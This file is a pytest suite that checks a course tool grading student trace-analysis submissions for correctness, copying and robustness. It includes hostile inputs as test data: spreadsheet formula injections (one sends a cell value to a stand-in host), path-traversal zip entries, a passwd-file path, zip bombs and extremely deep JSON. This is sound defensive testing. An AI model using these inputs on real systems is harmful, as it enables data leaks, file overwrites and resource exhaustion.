# SPDX-License-Identifier: Apache-2.0
"""A class of eighty, handed in through the command line and graded by one command: what is right, who has whose trace, what
is broken, and that nothing which students may send does harm."""
import csv
import io
import json
import os
import pathlib
import shutil
import zipfile

import pytest
from harness.environment import ROOT
from harness.recorder import run

jsonschema = pytest.importorskip("jsonschema")

TRACES = ("epoll", "epoll-edge", "coroutine", "io-uring")
STUDENTS, COPYISTS, CLAIMANTS = 44, 8, 8
FORMULAS = ["=HYPERLINK(\"http://x/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "a,\"b\"\r\nc"]
LONG = "because " * 20_000
LIMIT_S = 30


def lab(desk, *words):
    return run("lab", *words, cwd=desk, env={**os.environ, "LANG": "C.UTF-8"}, check=False)


def answers_of(name):
    """What is right for a bundled trace, from its records: exercise, answer, evidence."""
    records = [json.loads(line) for line in (ROOT / "traces" / f"{name}.loopscope.jsonl").read_text().splitlines()]
    calls = [record for record in records if record["type"] == "call"]
    listen, = [call for call in calls if call["call"] == "listen"]
    fd = listen["args"]["sockfd"]
    bind, = [call for call in calls if call["call"] == "bind" and call["args"]["sockfd"] == fd]
    found = [("listening-fd", fd, listen["id"]), ("bind-and-listen", listen["id"], bind["id"])]
    if name == "io-uring":
        armed = next(record for record in records if record["type"] == "sqe" and record["op"] == "ACCEPT")
        return found + [("registration", armed["id"], None)]
    add, = [call for call in calls if call["call"] == "epoll_ctl" and call["args"]["fd"] == fd]
    return found + [("registration", add["id"], None),
                    ("level-or-edge", "edge" if "EPOLLET" in add["args"]["events"] else "level", add["id"])]


class Class:
    """The folder of what was handed in, and what each of the submissions deserves."""

    def __init__(self, folder):
        self.folder, self.right, self.broken = folder / "handed-in", {}, {}
        self.folder.mkdir()
        self.students(folder)
        self.copyists()
        self.claimants()
        self.breakers()

    def students(self, folder):
        for i in range(STUDENTS):
            desk = folder / f"desk-{i}"
            desk.mkdir()
            name = TRACES[i % len(TRACES)]
            lines = (ROOT / "traces" / f"{name}.loopscope.jsonl").read_text().split("\n")
            header = json.loads(lines[0]) | {"started": f"2026-11-22T10:00:{i:02}.0Z"}  # each has recorded for himself
            (desk / "mine.loopscope.jsonl").write_text("\n".join([json.dumps(header), *lines[1:]]))
            answers = answers_of(name)[:1 + i % 4]
            for exercise, answer, evidence in answers:
                shown = ["--evidence", evidence] if evidence else []
                done = lab(desk, exercise, "--answer", answer, *shown, "--because", FORMULAS[i % len(FORMULAS)] + " as the records show")
                assert done.returncode == 0, (name, exercise, done.stdout, done.stderr)
            assert lab(desk, "how-many-loops", "--answer", 17, "--because", "I counted them twice").returncode == 1
            name = FORMULAS[i] if i < len(FORMULAS) else f"B{i:08}"
            assert lab(desk, "submit", "--name", name, "-o", self.folder / f"{i:02}.zip").returncode == 0
            self.right[f"{i:02}.zip"] = len(answers)

    def changed(self, source, target, change=lambda answers: None, trace=None):
        with zipfile.ZipFile(self.folder / source) as archive:
            answers = json.loads(archive.read("submission.json"))
            traces = {entry: archive.read(entry) for entry in archive.namelist() if entry.startswith("traces/")}
        change(answers)
        with zipfile.ZipFile(self.folder / target, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("submission.json", json.dumps(answers))
            for entry, data in traces.items():
                archive.writestr(entry, data if trace is None else trace)

    def copyists(self):
        """Another's submission under another name."""
        for i in range(COPYISTS):
            self.changed(f"{i:02}.zip", f"copy-{i}.zip", lambda answers, i=i: answers.update(name=f"C{i}"))
            self.right[f"copy-{i}.zip"] = self.right[f"{i:02}.zip"]

    def claimants(self):
        """Who says that it was right; who says so of another trace, or none; who wrote much; who handed in nothing."""
        def all_wrong(answers):
            for attempt in answers["exercises"].values():
                attempt.update(answer="3000", outcome="right")

        def much(answers):
            for attempt in answers["exercises"].values():
                attempt.update(because=LONG, prediction=LONG, answer=LONG)

        def nothing(answers):
            answers["exercises"] = {}

        def foreign(answers):
            for attempt in answers["exercises"].values():
                attempt["digest"] = "../../../etc/passwd"

        for i in range(CLAIMANTS):
            change = (all_wrong, much, nothing, foreign)[i % 4]
            self.changed(f"{10 + i:02}.zip", f"claim-{i}.zip", change, trace=b"{}\n" if i >= 4 else None)
            self.right[f"claim-{i}.zip"] = 0

    def archive(self, name, *entries):
        with zipfile.ZipFile(self.folder / name, "w", zipfile.ZIP_DEFLATED) as archive:
            for entry, data in entries:
                archive.writestr(entry, data)

    def breakers(self):
        whole = (self.folder / "00.zip").read_bytes()
        nothing = '{"loopscope_lab":1,"name":"x","exercises":{}}'
        deep = '{"loopscope_lab":1,"exercises":' + '{"a":' * 300_000 + "1" + "}" * 300_000 + "}"
        for i in range(8):
            (self.folder / f"cut-{i}.zip").write_bytes(whole[:len(whole) * i // 8])
        (self.folder / "text.zip").write_text("my answers are in the mail")
        (self.folder / "noise.zip").write_bytes(os.urandom(5000))
        self.archive("no-answers.zip", ("readme.txt", "see the mail"))
        self.archive("not-json.zip", ("submission.json", "{"))
        self.archive("wrong-types.zip", ("submission.json", '{"loopscope_lab":1,"name":{"a":1},"exercises":[]}'))
        self.archive("later-version.zip", ("submission.json", '{"loopscope_lab":2}'))
        self.archive("deep.zip", ("submission.json", deep))
        self.archive("deeper.zip", ("submission.json", '{"loopscope_lab":1,"exercises":{"a":' + "[" * 400_000))
        self.archive("many.zip", ("submission.json", nothing), *[(f"traces/{i}.jsonl", "{}") for i in range(70)])
        self.archive("much-text.zip", ("submission.json", '{"loopscope_lab":1,"name":"' + "x" * 5_000_000 + '"}'))
        self.bomb("bomb.zip", 1, 520)
        self.bomb("bombs.zip", 4, 300)
        for path in self.folder.iterdir():
            if path.name not in self.right:
                self.broken[path.name] = path
        # Not broken, only sly: paths that lead elsewhere, a folder that is named like a submission.
        self.archive("paths.zip", ("submission.json", nothing), ("../../evil-grading-test", "x"), ("/tmp/evil-grading-test", "x"),
                     ("traces/../../evil-grading-test", "{}\n"), ("traces/..\\..\\evil-grading-test", "{}\n"))
        self.right["paths.zip"] = 0
        (self.folder / "folder.zip").mkdir()

    def bomb(self, name, entries, megabytes):
        with zipfile.ZipFile(self.folder / name, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
            archive.writestr("submission.json", '{"loopscope_lab":1,"exercises":{}}')
            for i in range(entries):
                with archive.open(f"traces/{i}.jsonl", "w") as entry:
                    for _ in range(megabytes):
                        entry.write(bytes(1 << 20))


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    handed_in = Class(folder)
    scratch = folder / "scratch"
    scratch.mkdir()
    done = run("lab", "grade", handed_in.folder, "--csv", folder / "marks.csv", "--json", folder / "results.json", limit_s=LIMIT_S,
               check=False, env={**os.environ, "TMPDIR": str(scratch)})
    assert done.returncode == 0, (done.returncode, done.stderr)
    assert not list(scratch.iterdir()), "what was unpacked is still there"
    with open(folder / "marks.csv", newline="", encoding="utf-8") as file:
        marks = file.read()
    yield handed_in, done.stderr, marks, json.loads((folder / "results.json").read_text())
    shutil.rmtree(folder, ignore_errors=True)


def rows_of(marks):
    return {row["file"]: row for row in csv.DictReader(io.StringIO(marks, newline=""), strict=True)}


def test_eighty_are_graded_by_what_their_traces_say(graded):
    handed_in, said, marks, _ = graded
    rows = rows_of(marks)
    assert len(rows) == len(handed_in.right) + len(handed_in.broken) >= 80 and f"{len(rows)} submissions" in said.splitlines()[-1]
    assert {name: int(rows[name]["right"]) for name in handed_in.right} == handed_in.right
    assert {rows[name]["how-many-loops"] for name in handed_in.right if name[0].isdigit()} == {"0"}
    assert rows["03.zip"]["listening-fd"] == "1" and rows["00.zip"]["registration"] == ""


def test_who_has_whose_trace(graded):
    _, _, marks, _ = graded
    same = {name: row["same traces as"].split() for name, row in rows_of(marks).items()}
    for i in range(STUDENTS):
        copies = [f"copy-{i}.zip"] if i < COPYISTS else [f"claim-{i - 10}.zip"] if 10 <= i < 14 else []
        extra = [name for name in same[f"{i:02}.zip"] if name not in copies]
        assert set(copies) <= set(same[f"{i:02}.zip"]) and not extra, (i, same[f"{i:02}.zip"])
    assert same["copy-3.zip"] == ["03.zip"]


def test_what_is_broken_is_told_and_harms_no_other(graded):
    handed_in, said, marks, _ = graded
    rows = rows_of(marks)
    for name in handed_in.broken:
        assert rows[name]["problem"] and rows[name]["right"] == "0", name
        assert f"loopscope: {name}: {rows[name]['problem']}" in said, name
    assert "nested too deeply" in rows["deep.zip"]["problem"] and "nested too deeply" in rows["deeper.zip"]["problem"]
    assert "larger than 512 MB" in rows["bomb.zip"]["problem"] and "larger than 1024 MB together" in rows["bombs.zip"]["problem"]
    assert "70 entries" in rows["many.zip"]["problem"] or "71 entries" in rows["many.zip"]["problem"]
    assert f"{len(handed_in.broken)} of them could not be graded" in said
    for above in [handed_in.folder, *handed_in.folder.parents, pathlib.Path("/tmp")]:
        assert not (above / "evil-grading-test").exists(), above


def test_no_cell_is_a_formula(graded):
    _, _, marks, _ = graded
    rows = rows_of(marks)
    for row in rows.values():
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r\n", row
    assert rows["00.zip"]["name"] == "'" + FORMULAS[0] and rows["05.zip"]["name"] == FORMULAS[5]
    assert all(len(cell) < 1000 for row in rows.values() for cell in row.values())


def test_results_are_what_the_schema_says(graded):
    handed_in, _, marks, results = graded
    schema = json.loads((ROOT / "docs" / "lab" / "results.schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(results)
    rows = rows_of(marks)
    assert [each["file"] for each in results["submissions"]] == sorted(rows)
    by_file = {each["file"]: each for each in results["submissions"]}
    listening = by_file["03.zip"]["exercises"]["listening-fd"]
    assert listening["outcome"] == "right" and FORMULAS[3] in listening["because"] and listening["tries"] == 1
    assert by_file["03.zip"]["exercises"]["latency-a"] == {"outcome": "missing"}
    assert "Count threads" in by_file["03.zip"]["exercises"]["how-many-loops"]["say"]
    assert by_file["claim-3.zip"]["exercises"]["listening-fd"]["say"] == "its trace was not handed in, or is another"
    assert all(len(text) < 21_000 for text in by_file["claim-1.zip"]["exercises"]["listening-fd"].values() if isinstance(text, str))
    assert all(bool(by_file[name]["problem"]) == (name in handed_in.broken) for name in by_file)
